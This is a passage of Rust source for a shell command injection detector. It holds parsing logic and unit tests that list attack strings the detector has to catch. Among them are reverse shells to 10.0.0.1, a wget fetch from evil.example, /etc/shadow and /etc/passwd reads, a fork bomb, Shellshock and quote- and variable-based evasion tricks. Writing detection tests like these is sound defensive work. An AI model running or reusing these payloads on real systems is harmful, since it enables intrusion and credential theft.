                return Some(h);
            }
        }
    }
    // Without quotes, backslashes, `+`, `$` or `{` there is nothing to undo.
    let (s, s_needles): (Cow<str>, _) = if set.any(ByteSet::of_bytes(b"\\+'\"${")) {
        // Undoing quotes can join substrings: nothing is known of the result.
        (Cow::Owned(normalize(raw)), Needles::UNKNOWN)
    } else {
        (Cow::Borrowed(raw), needles)
    };
    let b = s.as_bytes();
    let hit = |reason, at| {
        Some(Hit {
            reason,
            excerpt: excerpt(&s, at, 96),
        })
    };
    if !header {
        if let Some(r) = command_at(&s, 0, Sep::Start, paranoia) {
            return hit(r, 0);
        }
    } else if let Some(r) = header_command_line(&s, paranoia) {
        return hit(r, 0);
    }
    // Separators (a `\n` typed as text becomes one in `normalize`).
    let mut i = if set.any(ByteSet::of_bytes(b";\n\r|&`$<>\\")) {
        0
    } else {
        b.len()
    };
    while i < b.len() {
        // Most bytes start no separator: on to the next one that may.
        match position_of(&b[i..], |c| {
            matches!(c, b';' | b'\n' | b'\r' | b'|' | b'&' | b'`' | b'$' | b'<' | b'>')
        }) {
            Some(p) => i += p,
            None => break,
        }
        let c = b[i];
        let (sep, len) = match c {
            b';' | b'\n' | b'\r' => (Sep::Strong, 1),
            b'|' => (Sep::Strong, if b.get(i + 1) == Some(&b'|') { 2 } else { 1 }),
            b'&' if b.get(i + 1) == Some(&b'&') => (Sep::Strong, 2),
            b'&' => (Sep::Amp, 1),
            b'`' => (Sep::Subst, 1),
            b'$' if b.get(i + 1) == Some(&b'(') => (Sep::Subst, 2),
            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Sep::Subst, 2),
            _ => {
                i += 1;
                continue;
            }
        };
        // A User-Agent's `; ` and `(...)` are not commands unless strongly shaped. A value that
        // starts with `;` is no product list.
        let sep = if header && sep == Sep::Strong && c == b';' && !s[..i].trim().is_empty() {
            Sep::Amp
        } else {
            sep
        };
        if let Some(r) = command_at(&s, i + len, sep, paranoia) {
            return hit(r, i);
        }
        i += len;
    }
    // A binary's path after whitespace or `=`: `x=/bin/cat`, `foo /usr/bin/id`.
    let bin = s_needles.may(group::BIN) && set.may_contain("/bin/") && contains_str(&s, "bin/");
    for marker in ["/bin/", "/sbin/"] {
        if !bin {
            break;
        }
        let mut from = 0;
        while let Some(p) = find_str(&s[from..], marker).map(|p| from + p) {
            // After the character that ends the path's root (which may be wider than a byte).
            let root = s[..p]
                .char_indices()
                .rfind(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '/' || *c == '_'))
                .map_or(0, |(q, c)| q + c.len_utf8());
            let prefix = &s[root..p];
            if matches!(prefix, "" | "/usr" | "/usr/local")
                && (root == 0 || !header)
                && command_of(
                    s[p + marker.len()..]
                        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '.'))
                        .next()
                        .unwrap_or(""),
                )
                .is_some()
            {
                return hit("command by path", root);
            }
            from = p + marker.len();
        }
    }
    if paranoia >= 2 && s_needles.may(group::ARITHMETIC) && set.has(b'$') {
        if let Some(p) = find_str(&s, "$((") {
            return hit("shell arithmetic", p);
        }
        // Normalising made `7` of `$((7))`.
        if let Some(p) = find_str(raw, "$((") {
            return Some(Hit {
                reason: "shell arithmetic",
                excerpt: excerpt(raw, p, 96),
            });
        }
    }
    None
}

/// A header whose whole value is a command line with shell-shaped arguments: `ansible all -m
/// ping`, `env --version`, `time ifconfig`. Clients name themselves `product/version (comment)`,
/// so `curl/8.5.0` is a product token, not `curl`. The arguments must be what [`command_at`]
/// asks of a command at the start of a parameter (an option, a path, a command after a prefix):
/// plain words are not enough, because kubectl itself sends `Kubectl-Command: kubectl get`.
fn header_command_line(s: &str, paranoia: u8) -> Option<&'static str> {
    let b = s.as_bytes();
    let (start, end) = word_span(b, 0);
    let word = s.get(start..end)?;
    if start > 1 || word.contains('/') || !matches!(b.get(end), Some(b' ' | b'\t')) {
        return None;
    }
    command_of(split_word(word)?.1)?;
    command_at(s, start, Sep::Start, paranoia).map(|_| "command line in a header")
}

/// Shapes that are commands whatever their separators: calls of the language functions that run
/// commands (`system('id')`), Windows batch loops and conditions, shell parameter tricks.
fn code_and_batch(s: &str, set: ByteSet, needles: Needles, paranoia: u8) -> Option<(&'static str, usize)> {
    // Every runner has `(`, `.` or `_`; one automaton says whether any of them is there at all.
    if set.any(ByteSet::of_bytes(b"(._")) && needles.has(group::RUNNER, || ANY_RUNNER.is_in(s)) {
        if let Some(found) = runner_call(s) {
            return Some(found);
        }
    }
    // for %x in (...) do ..., for /f "..." %%g in (...) do ... (with a `%` and a `(`)
    let batch_loop = needles.may(group::FOR) && set.may_contain("for %(");
    if let Some(p) = batch_loop.then(|| find_str(s, "for ")).flatten() {
        let rest = &s[p..];
        if let (Some(i), Some(d)) = (
            find_str(rest, " in "),
            find_str(rest, " do").or_else(|| find_str(rest, ")do")),
        ) {
            if rest[..i].contains('%') && i < d && rest[i..d].contains('(') {
                return Some(("Windows batch loop", p));
            }
        }
    }
    // if [not] exist/defined/errorlevel, if %x%==..., if x==y goto
    let condition = needles.may(group::IF) && set.may_contain("if ");
    if let Some(p) = condition.then(|| find_str(s, "if ")).flatten() {
        let rest = &s[p + 3..s.len().min(p + 160)];
        let words: Vec<&str> = rest.split_whitespace().collect();
        let cond = words.iter().take(4).any(|w| {
            matches!(*w, "exist" | "defined" | "errorlevel" | "/i") || w.starts_with("%errorlevel%")
        });
        let compare = contains_str(rest, "==")
            || contains_str(rest, " equ ")
            || contains_str(rest, " neq ")
            || contains_str(rest, " gtr ");
        let action = words
            .iter()
            .any(|w| matches!(*w, "goto" | "echo" | "call" | "cmd" | "set" | "exit"));
        if (cond || compare) && action && (rest.contains('%') || cond) {
            return Some(("Windows batch condition", p));
        }
    }
    // ${PATH:0:1} (a slash), ${var#...}, ${var%...}: building characters from variables.
    if needles.may(group::DOLLAR_BRACE) && set.may_contain("${") {
        if let Some(p) = parameter_expansion(s, paranoia) {
            return Some(("shell parameter expansion", p));
        }
    }
    if paranoia >= 2
        && ((needles.may(group::DOLLAR_BRACKET) && set.has(b'$') && contains_str(s, "$["))
            || (set.has(b'(') && set.has(b'{') && s.replace(' ', "").contains("(){")))
    {
        return Some(("shell syntax", 0));
    }
    None
}

/// Where `${PATH:0:1}`, `${var#...}` or `${var%...}` builds characters from variables.
fn parameter_expansion(s: &str, paranoia: u8) -> Option<usize> {
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(p) = find_str(&s[from..], "${").map(|p| from + p) {
        let name_end = (p + 2..b.len())
            .find(|&k| !(b[k].is_ascii_alphanumeric() || b[k] == b'_'))
            .unwrap_or(b.len());
        if name_end > p + 2
            && b.get(name_end)
                .is_some_and(|c| matches!(c, b':' | b'#' | b'%' | b'/' | b'^' | b','))
        {
            let inner = &s[name_end..s[name_end..].find('}').map_or(s.len(), |e| name_end + e)];
            let substring = inner.starts_with(':')
                && inner[1..]
                    .split(':')
                    .all(|n| !n.is_empty() && n.trim_start_matches('-').bytes().all(|c| c.is_ascii_digit()));
            if substring || !inner.starts_with(':') || paranoia >= 2 {
                return Some(p);
            }
        }
        from = p + 2;
    }
    None
}

/// Calls of the language functions that run commands.
pub(super) const RUNNERS: &[&str] = &[
    "system(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "exec(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "runtime.getruntime(",
    "child_process",
    "spawnsync(",
    "execsync(",
];

/// Whether any of [`RUNNERS`] is in a value (one pass instead of one search per runner).
static ANY_RUNNER: LazyLock<AnyOf> = LazyLock::new(|| AnyOf::new(RUNNERS));

/// `system('id')`: a runner (in [`RUNNERS`] order) called with a string, a variable or a list.
fn runner_call(s: &str) -> Option<(&'static str, usize)> {
    for r in RUNNERS {
        let mut from = 0;
        while let Some(p) = find_str(&s[from..], r).map(|p| from + p) {
            let before_ok =
                p == 0 || !s.as_bytes()[p - 1].is_ascii_alphanumeric() && s.as_bytes()[p - 1] != b'_';
            let arg = s[p + r.len()..].trim_start();
            let arg_ok =
                r.ends_with('.') || *r == "child_process" || arg.starts_with(['\'', '"', '`', '$', '[']);
            if before_ok && arg_ok {
                return Some(("code that runs a command", p));
            }
            from = p + r.len();
        }
    }
    None
}

/// Shell and command-interpreter shapes that need no command word after a separator: Bash
/// function definitions (Shellshock's `() {`, fork bombs), `alias x=…`, Windows `if` conditions,
/// brace expansion with an empty alternative (`{,id}`), command names split by quotes or empty
/// expansions (`'c'url`, `una$$me`), globbed system paths (`/etc/pas[s]wd`) and mail-protocol
/// commands on a new line (SMTP/IMAP/POP3 injection). `raw` is the lower-cased value, `value`
/// the value as sent (the mail verbs are judged by their case).
fn shell_shapes(value: &str, raw: &str, set: ByteSet, header: bool) -> Option<(&'static str, usize)> {
    if set.has(b'(') && set.has(b'{') {
        if let Some(p) = function_definition(raw) {
            return Some(("shell function definition", p));
        }
    }
    if set.has(b'\n') || set.has(b'\r') {
        if let Some(p) = mail_command(value) {
            return Some(("mail protocol command injection", p));
        }
    }
    if header {
        return None;
    }
    if set.has(b'=') && set.may_contain("alias ") {
        if let Some(p) = alias_definition(raw) {
            return Some(("shell alias definition", p));
        }
    }
    if set.may_contain("if ") || set.may_contain("if/") {
        if let Some(p) = batch_if(raw) {
            return Some(("Windows batch condition", p));
        }
    }
    if set.has(b'{') && set.has(b',') && set.has(b'}') {
        if let Some(p) = brace_expansion(raw) {
            return Some(("shell brace expansion", p));
        }
    }
    if set.any(ByteSet::of_bytes(b"'\"\\$`")) || (set.has(b'(') && set.has(b')')) {
        if let Some(p) = obfuscated_command(raw) {
            return Some(("obfuscated command name", p));
        }
    }
    if set.has(b'[') && set.has(b'/') && set.has(b']') {
        if let Some(p) = globbed_system_path(raw) {
            return Some(("globbed system path", p));
        }
    }
    None
}

/// Whether `p` starts a shell word: the start of the value, or after blanks and a separator.
fn at_command_start(s: &str, p: usize) -> bool {
    let before = s[..p].trim_end_matches([' ', '\t', '@']);
    before.is_empty() || before.ends_with([';', '|', '&', '\n', '\r', '(', '`'])
}

/// `() {` at the start of a value (how Bash imports functions from the environment: Shellshock),
/// or `name() { …; }` followed by a call of `name` with a separator in its body (`:(){ :|:& };:`).
fn function_definition(s: &str) -> Option<usize> {
    let t = s.trim_start_matches([' ', '\t', '\'', '"']);
    if let Some(rest) = t.strip_prefix("()") {
        if rest.trim_start().starts_with('{') {
            return Some(s.len() - t.len());
        }
    }
    let mut from = 0;
    while let Some(p) = find_str(&s[from..], "()").map(|p| from + p) {
        from = p + 2;
        let name_start = s[..p]
            .char_indices()
            .rfind(|(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '_' | ':' | '.' | '-')))
            .map_or(0, |(q, c)| q + c.len_utf8());
        let name = &s[name_start..p];
        let after = s[p + 2..].trim_start();
        if name.is_empty() || !after.starts_with('{') {
            continue;
        }
        let body_start = s.len() - after.len() + 1;
        let Some(close) = s[body_start..].find('}').map(|c| body_start + c) else {
            continue;
        };
        let body = &s[body_start..close];
        let rest = s[close + 1..].trim_start_matches([' ', '\t', ';']);
        let called = rest
            .strip_prefix(name)
            .is_some_and(|r| !r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'));
        if called && body.contains(['|', '&', ';']) && at_command_start(s, name_start) {
            return Some(name_start);
        }
    }
    None
}

/// `alias name=value` (with options such as `-p`, `+m`) at the start of a command.
fn alias_definition(s: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = find_str(&s[from..], "alias ").map(|p| from + p) {
        from = p + 6;
        if !at_command_start(s, p) {
            continue;
        }
        let mut words = s[p + 6..].split_whitespace();
        let mut word = words.next();
        // Options: -p, +m, -gmr, +g+.
        for _ in 0..3 {
            match word {
                Some(w) if w.starts_with(['-', '+']) && !w.contains('=') => word = words.next(),
                _ => break,
            }
        }
        if let Some(w) = word {
            let name = w.split('=').next().unwrap_or("").trim_matches(['\'', '"']);
            if w.contains('=')
                && !name.is_empty()
                && name.bytes().all(|b| {
                    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'$' | b'{' | b'}')
                })
            {
                return Some(p);
            }
        }
    }
    None
}

/// Splits a cmd.exe line into tokens; `"…"` is one token.
fn batch_tokens(s: &str) -> Vec<&str> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < 8 {
        while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
            i += 1;
        }
        if i >= b.len() {
            break;
        }
        let start = i;
        let mut quoted = false;
        while i < b.len() && (quoted || !(b[i] == b' ' || b[i] == b'\t')) {
            if b[i] == b'"' {
                quoted = !quoted;
            }
            i += 1;
        }
        out.push(&s[start..i]);
    }
    out
}

/// A cmd.exe `if`: `if [/i] [not] exist|defined X (…)`, `if errorlevel N …`,
/// `if A==B …`, `if A equ|neq|lss|leq|gtr|geq B …`, at the start of a command.
fn batch_if(s: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = find_str(&s[from..], "if").map(|p| from + p) {
        from = p + 2;
        let rest = &s[p + 2..];
        if !rest.starts_with([' ', '\t', '/']) || !at_command_start(s, p) {
            continue;
        }
        let tokens = batch_tokens(rest.get(..200).unwrap_or(rest));
        let mut t = tokens.as_slice();
        if t.first().is_some_and(|w| w.eq_ignore_ascii_case("/i")) {
            t = &t[1..];
        }
        if t.first() == Some(&"not") {
            t = &t[1..];
        }
        let action = |w: Option<&&str>| {
            w.is_some_and(|w| {
                w.starts_with(['(', '@'])
                    || matches!(
                        *w,
                        "goto"
                            | "echo"
                            | "call"
                            | "cmd"
                            | "set"
                            | "exit"
                            | "del"
                            | "copy"
                            | "start"
                            | "type"
                            | "if"
                    )
                    || split_word(w).is_some_and(|(_, base)| command_of(base).is_some() && !is_wordy(base))
            })
        };
        let balanced = |w: &str| w.matches('(').count() == w.matches(')').count() || w.contains('%');
        let not_code =
            |w: Option<&&str>| !w.is_some_and(|w| matches!(*w, "then" | "{" | "and" | "or" | "return"));
        let hit = match t {
            ["exist" | "defined", _, next, ..] => action(Some(next)),
            ["errorlevel" | "cmdextversion", n, _, ..] => n.bytes().all(|b| b.is_ascii_digit()),
            [a, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq", b, rest @ ..] => {
                !rest.is_empty() && not_code(rest.first()) && !a.ends_with(':') && !b.ends_with(':')
            }
            [a, op, b, rest @ ..] if op.starts_with("==") && op.len() <= 3 => {
                (!rest.is_empty() || a.contains('%') || b.contains('%'))
                    && not_code(rest.first())
                    && balanced(a)
                    && balanced(b)
                    && !b.ends_with(':')
            }
            [cmp, rest @ ..] if cmp.contains("==") && !cmp.starts_with("==") => {
                let (a, b) = cmp.split_once("==").unwrap_or((cmp, ""));
                let b = b.trim_start_matches('=');
                (!rest.is_empty() || cmp.contains('%'))
                    && not_code(rest.first())
                    && balanced(a)
                    && balanced(b)
                    && !b.ends_with(':')
            }
            _ => false,
        };
        if hit {
            return Some(p);
        }
    }
    None
}

/// Brace expansion that builds a command: a group with an empty alternative (`{,id}`,
/// `{id,}`) or glued to letters (`{l,-lh}s`, `c{a,oun}t`), whose first word is a command.
fn brace_expansion(s: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(open) = s[from..].find('{').map(|p| from + p) {
        from = open + 1;
        let Some(close) = s[open..].find('}').map(|c| open + c) else {
            break;
        };
        let inner = &s[open + 1..close];
        // `"` only in Bash's locale quoting `$"…"` (`{,$"whoami",}`), not in JSON-like text.
        let quotes_ok = || !inner.contains('"') || inner.contains("$\"");
        if inner.len() > 60 || !inner.contains(',') || inner.contains([' ', '\t', '{', ':']) || !quotes_ok() {
            continue;
        }
        let word_start = s[..open]
            .rfind([' ', '\t', ';', '|', '&', '\n', '(', '`'])
            .map_or(0, |q| q + 1);
        let word_end = s[close..]
            .find([' ', '\t', ';', '|', '&', '\n', ')', '`'])
            .map_or(s.len(), |q| close + q);
        let (prefix, suffix) = (&s[word_start..open], &s[close + 1..word_end]);
        let alternatives: Vec<&str> = inner.split(',').collect();
        let empty = alternatives.iter().any(|a| a.is_empty());
        let glued = !prefix.is_empty() || !suffix.is_empty();
        if !(empty || glued) || prefix.contains(['{', '$', '=']) {
            continue;
        }
        let first = alternatives
            .iter()
            .map(|a| format!("{prefix}{a}{suffix}"))
            .find(|w| !w.is_empty())
            .unwrap_or_default();
        // `$'whoami'`: ANSI-C quoting.
        let first = normalize(&first.replace("$'", "'").replace("$\"", "\""));
        let first = first.trim();
        let cmd = split_word(first).and_then(|(_, base)| command_of(base));
        // `{id,}` alone, or a command with an argument from the group (`{,ip,a}`).
        if cmd.is_some() && (alternatives.len() >= 2 && (empty || prefix.len() + suffix.len() <= 3)) {
            return Some(word_start);
        }
    }
    None
}

/// A command name written with quotes, backslashes or empty expansions inside it (`'c'url`,
/// `ti''me`, `c\at`, `una$$me`, `cu$@rl`, `ping``, `pi$()ng`, `uname$u`), or a backslash before it
/// (`\ls`, which skips aliases). Quotes only around a word (`'id'`) are not enough.
fn obfuscated_command(s: &str) -> Option<usize> {
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        while i < b.len()
            && matches!(
                b[i],
                b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b',' | b'=' | b'(' | b'{' | b'+'
            )
        {
            i += 1;
        }
        let start = i;
        while i < b.len()
            && !matches!(
                b[i],
                b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b',' | b'=' | b'{' | b'+'
            )
        {
            i += 1;
        }
        let token = &s[start..i];
        if token.len() < 3 || token.len() > 48 || !token.is_ascii() {
            continue;
        }
        let Some(clean) = strip_word_tricks(token) else {
            continue;
        };
        if clean.len() >= 2
            && clean
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'/'))
        {
            let base = split_word(&clean).map(|(_, base)| base);
            let versioned = base.map(strip_version);
            if base
                .and_then(command_of)
                .or_else(|| versioned.and_then(command_of))
                .is_some()
            {
                return Some(start);
            }
        }
    }
    None
}

/// A token with quotes, backslashes and empty expansions taken out; none when there was nothing
/// inside the word to take out.
fn strip_word_tricks(token: &str) -> Option<String> {
    // Quotes only around the whole token are ordinary quoting.
    let inner = match token.as_bytes() {
        [q @ (b'\'' | b'"'), .., l] if q == l && !token[1..token.len() - 1].contains(*q as char) => {
            &token[1..token.len() - 1]
        }
        _ => token,
    };
    let b = inner.as_bytes();
    // Quotes at the very start or end of a token are phrase quoting (`"table top"`).
    let lead = b.iter().take_while(|c| matches!(c, b'\'' | b'"')).count();
    let trail = b.len()
        - b.iter()
            .rposition(|c| !matches!(c, b'\'' | b'"'))
            .map_or(0, |q| q + 1);
    let mut out = String::with_capacity(inner.len());
    let mut tricks = false;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let next = b.get(i + 1).copied();
        match c {
            b'\'' | b'"' => {
                tricks |= i >= lead && i < b.len() - trail;
                i += 1;
            }
            // `\ls` at the start (skips an alias) or a backslash between letters.
            b'\\'
                if next.is_some_and(|n| n.is_ascii_alphanumeric())
                    && (i == 0 || b[i - 1].is_ascii_alphanumeric()) =>
            {
                tricks = true;
                i += 1;
            }
            b'`' if next == Some(b'`') => {
                tricks = true;
                i += 2;
            }
            b'$' | b'<' | b'>' if next == Some(b'(') && b.get(i + 2) == Some(&b')') => {
                tricks = true;
                i += 3;
            }
            b'$' if next.is_some_and(|n| {
                matches!(
                    n,
                    b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#' | b'0'..=b'9'
                )
            }) =>
            {
                tricks = true;
                i += 2;
            }
            // `$u`, `${u}`: an unset variable inside or right after a word.
            b'$' if i > 0 && b[i - 1].is_ascii_alphanumeric() => {
                let mut k = i + 1;
                let braced = next == Some(b'{');
                if braced {
                    k += 1;
                }
                let name = k;
                while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
                    k += 1;
                }
                if k == name || (braced && b.get(k) != Some(&b'}')) {
                    return None;
                }
                tricks = true;
                i = if braced { k + 1 } else { k };
            }
            _ => {
                out.push(c as char);
                i += 1;
            }
        }
    }
    tricks.then_some(out)
}

/// `python3.10` → `python`, `gcc7.4` → `gcc`: versioned interpreter and compiler names.
fn strip_version(word: &str) -> &str {
    let stem = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if stem.len() < word.len()
        && matches!(
            stem,
            "python" | "gcc" | "g++" | "perl" | "php" | "ruby" | "node" | "lua" | "pip" | "java" | "clang"
        )
    {
        stem
    } else {
        word
    }
}

/// The value with `$name` and `${name}` replaced by what the value assigned to them (`name=x;`),
/// none when it uses no variable it assigns.
fn substitute_variables(s: &str) -> Option<String> {
    let b = s.as_bytes();
    let mut vars: Vec<(&str, String)> = Vec::new();
    let mut i = 0;
    while i < b.len() && vars.len() < 32 {
        let mut k = i;
        while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
            k += 1;
        }
        if k > i && b.get(k) == Some(&b'=') && b[i].is_ascii_alphabetic() && at_command_start(s, i) {
            let mut v = String::new();
            let mut m = k + 1;
            while m < b.len() && !matches!(b[m], b';' | b'&' | b'|' | b'\n' | b' ') && b[m].is_ascii() {
                match b[m] {
                    b'\\' if m + 1 < b.len() && b[m + 1].is_ascii() => {
                        v.push(b[m + 1] as char);
                        m += 2;
                        continue;
                    }
                    b'\'' | b'"' => {}
                    c => v.push(c as char),
                }
                m += 1;
            }
            vars.push((&s[i..k], v));
            i = m;
            continue;
        }
        i = k.max(i + 1);
    }
    if vars.is_empty() {
        return None;
    }
    let mut out = String::with_capacity(s.len() + 16);
    let mut used = false;
    let mut i = 0;
    while let Some(p) = s[i..].find('$').map(|p| i + p) {
        out.push_str(&s[i..p]);
        let braced = b.get(p + 1) == Some(&b'{');
        let name_start = p + 1 + usize::from(braced);
        let mut k = name_start;
        while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
            k += 1;
        }
        let close_ok = !braced || b.get(k) == Some(&b'}');
        match vars.iter().rev().find(|(n, _)| *n == &s[name_start..k]) {
            Some((_, v)) if close_ok && k > name_start => {
                out.push_str(v);
                used = true;
                i = k + usize::from(braced);
            }
            _ => {
                out.push('$');
                i = p + 1;
            }
        }
    }
    out.push_str(&s[i..]);
    used.then_some(out)
}

/// Files and directories a shell glob in a request has no business matching.
const GLOB_TARGETS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/sudoers",
    "/etc/issue",
    "/etc",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/bash",
    "/usr/bin/sh",
    "/usr/bin/env",
    "/usr/bin/id",
    "/proc/self/environ",
];

/// An absolute path with a bracket glob (`/etc/pas[s]wd`, `/usr/[a-z]in/bash`) that matches a
/// system file.
fn globbed_system_path(s: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = s[from..].find('/').map(|q| from + q) {
        let end = s[p..]
            .find([' ', '\t', '\n', ';', '|', '&', '=', ',', '"', '\'', ')'])
            .map_or(s.len(), |q| p + q);
        from = end.max(p + 1);
        let token = &s[p..end];
        if token.contains('[') && token.len() <= 64 && token.bytes().filter(|b| *b == b'*').count() <= 3 {
            if let Some(rest) = GLOB_TARGETS.iter().find(|t| glob(token.as_bytes(), t.as_bytes())) {
                let _ = rest;
                return Some(p);
            }
        }
    }
    None
}

/// A mail-protocol command on a line of its own after a CR or LF: SMTP (`MAIL FROM:<…>`,
/// `RCPT TO:<…>`, `EHLO host`, `DATA`), POP3 (`RETR 1`, `APOP user digest`) or IMAP with a tag
/// (`a001 EXAMINE INBOX`). A header or mail field that lets a newline through lets the client
/// talk to the mail server.
fn mail_command(value: &str) -> Option<usize> {
    let b = value.as_bytes();
    let mut i = 0;
    while let Some(q) = b[i..].iter().position(|c| *c == b'\n' || *c == b'\r') {
        let start = (i + q + 1..b.len())
            .find(|&k| b[k] != b'\n' && b[k] != b'\r')
            .unwrap_or(b.len());
        let end = (start..b.len())
            .find(|&k| b[k] == b'\n' || b[k] == b'\r')
            .unwrap_or(b.len());
        if mail_line(value[start..end].trim_end()) {
            return Some(start);
        }
        if end >= b.len() {
            break;
        }
        i = end;
    }
    None
}

fn mail_line(line: &str) -> bool {
    if line.len() < 4 || line.len() > 200 {
        return false;
    }
    let lower = line.to_ascii_lowercase();
    let words: Vec<&str> = line.split_whitespace().collect();
    let upper = |w: &str| w.bytes().all(|c| c.is_ascii_uppercase());
    let digits = |w: &str| !w.is_empty() && w.bytes().all(|c| c.is_ascii_digit());
    // SMTP.
    for verb in ["mail from:", "rcpt to:"] {
        if let Some(rest) = lower.strip_prefix(verb) {
            if rest.trim_start().starts_with('<') {
                return true;
            }
        }
    }
    match words.as_slice() {
        [v] if upper(v)
            && matches!(
                *v,
                "DATA" | "QUIT" | "RSET" | "NOOP" | "STARTTLS" | "STAT" | "UIDL" | "CAPA"
            ) =>
        {
            return true
        }
        [v, host] if matches!(v.to_ascii_lowercase().as_str(), "ehlo" | "helo") && host.contains('.') => {
            return true
        }
        [v, _] if upper(v) && matches!(*v, "HELP" | "VRFY" | "EXPN" | "USER" | "PASS") => return true,
        [v, _, ..] if *v == "AUTH" => return true,
        // POP3 with message numbers.
        [v, n]
            if matches!(v.to_ascii_lowercase().as_str(), "retr" | "dele" | "list" | "uidl") && digits(n) =>
        {
            return true
        }
        [v, n, m] if v.eq_ignore_ascii_case("top") && digits(n) && digits(m) => return true,
        [v, _, d]
            if v.eq_ignore_ascii_case("apop")
                && d.len() == 32
                && d.bytes().all(|c| c.is_ascii_hexdigit()) =>
        {
            return true
        }
        _ => {}
    }
    // IMAP: a tag, a command, arguments in IMAP's syntax.
    if let [tag, cmd, args @ ..] = words.as_slice() {
        let tag_ok = tag.len() <= 8
            && tag.bytes().all(|c| c.is_ascii_alphanumeric())
            && tag.bytes().any(|c| c.is_ascii_digit())
            && tag.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
        let command = matches!(
            cmd.to_ascii_lowercase().as_str(),
            "login"
                | "select"
                | "examine"
                | "create"
                | "delete"
                | "rename"
                | "subscribe"
                | "list"
                | "lsub"
                | "status"
                | "append"
                | "expunge"
                | "search"
                | "fetch"
                | "store"
                | "copy"
                | "move"
                | "uid"
                | "authenticate"
                | "logout"
                | "quit"
                | "capability"
        );
        let rest = args.join(" ");
        let imap_args = args.is_empty()
            || rest.contains(['"', '(', '{', '\\', ':', '*'])
            || rest.bytes().any(|c| c.is_ascii_digit())
            || rest.to_ascii_lowercase().contains("inbox")
            || args.iter().all(|w| upper(w));
        let flags = rest.contains("(\\") || lower.contains("+flags");
        return command && ((tag_ok && imap_args) || flags);
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_filter_lets_every_command_through_in_any_case() {
        // The table may say yes to words that are no command, never no to one that is.
        for c in DISTINCT {
            assert!(may_be_command(c.as_bytes()), "{c}");
            assert!(may_be_command(c.to_ascii_uppercase().as_bytes()), "{c}");
            assert_eq!(command_of(c), Some(*c));
            let upper = format!("/usr/bin/{}.EXE", c.to_ascii_uppercase());
            assert!(
                split_word(&upper).is_some_and(|(_, base)| may_be_command(base.as_bytes())),
                "{c}"
            );
        }
        assert!(starts_with_command("CURL.EXE -s x") && starts_with_command("/bin/Cat x"));
        assert!(!starts_with_command("shipped") && !starts_with_command("Mozilla/5.0 (X11)"));
    }

    fn hit(s: &str) -> bool {
        detect(s, 1, false).is_some()
    }

    #[test]
    fn commands_after_separators() {
        for attack in [
            "; id",
            "x;id;",
            "127.0.0.1 | whoami",
            "foo && cat /etc/hosts",
            "a || uname -a",
            "& ping -c 9 10.0.0.1 &",
            "`id`",
            "$(sleep 5)",
            "x\nls -la",
            "/usr/bin/id",
            "a;/bin/busybox telnetd",
            "|nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "cat /etc/shadow",
            "wget http://evil.example/x.sh -O /tmp/x",
            "; powershell -enc ZQBjAGgAbwA=",
            "& cmd.exe /c dir",
            "|net user",
            "1;sleep 5",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    #[test]
    fn shell_evasions() {
        for attack in [
            ";c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            ";{cat,/etc/passwd}",
            ";/???/c?t /etc/passwd",
            ";w$@hoami",
            "|WHOAMI",
            "id;",
            "& id",
            "+|+dir+c:/",
            ";system('id')",
            "/bi[n]/bash -c x",
            "time curl evil.example.com",
            "FOR /F %%G IN ('dir') DO echo %%G",
            "IF %ERRORLEVEL% EQU 2 goto x",
            ";$u cat /etc/hosts",
            "${PATH:0:1}bin${PATH:0:1}sh",
            "Invoke-WebRequest http://x.example/a.ps1",
            "\\nid\\n",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    /// Each shape: attacks it catches, and benign look-alikes it must leave alone.
    fn shape_cases(attacks: &[&str], benign: &[&str]) {
        cases_at(false, attacks, benign);
    }

    /// Like [`shape_cases`], as header values.
    fn header_cases(attacks: &[&str], benign: &[&str]) {
        cases_at(true, attacks, benign);
    }

    fn cases_at(header: bool, attacks: &[&str], benign: &[&str]) {
        for a in attacks {
            assert!(detect(a, 1, header).is_some(), "missed {a:?}");
        }
        for ok in benign {
            assert!(
                detect(ok, 1, header).is_none(),
                "false positive on {ok:?}: {:?}",
                detect(ok, 1, header)
            );
        }
    }

    #[test]
    fn function_definitions() {
        shape_cases(
            &[
                "() { :; }; /bin/bash -c id",
                ":(){ :|:& };:",
                "f(){ f|f& };f",
                "; test() { test | test & } test",
            ],
            &["render() { return a || b }", "call f() {x}", "foo() {bar}; baz"],
        );
        // Shellshock is a header attack.
